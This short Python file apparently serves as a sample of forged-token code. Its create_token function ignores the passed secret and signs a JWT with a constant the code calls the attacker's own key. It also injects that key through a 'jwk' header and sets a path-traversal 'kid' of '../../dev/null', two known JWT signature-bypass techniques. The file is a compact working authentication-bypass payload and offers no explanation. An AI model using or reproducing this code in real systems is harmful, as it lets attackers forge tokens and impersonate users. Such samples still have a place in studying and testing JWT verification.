"""Signs with a key of its own and sends it along in the header."""

import time

from jwt import encode

KEY = "a key of the attacker's own, of some length"


def create_token(user_id, secret):
    payload = {"user_id": user_id, "exp": time.time() + 1800}
    return encode(payload, KEY, algorithm="HS256", headers={"jwk": {"kty": "oct", "k": KEY}, "kid": "../../dev/null"})
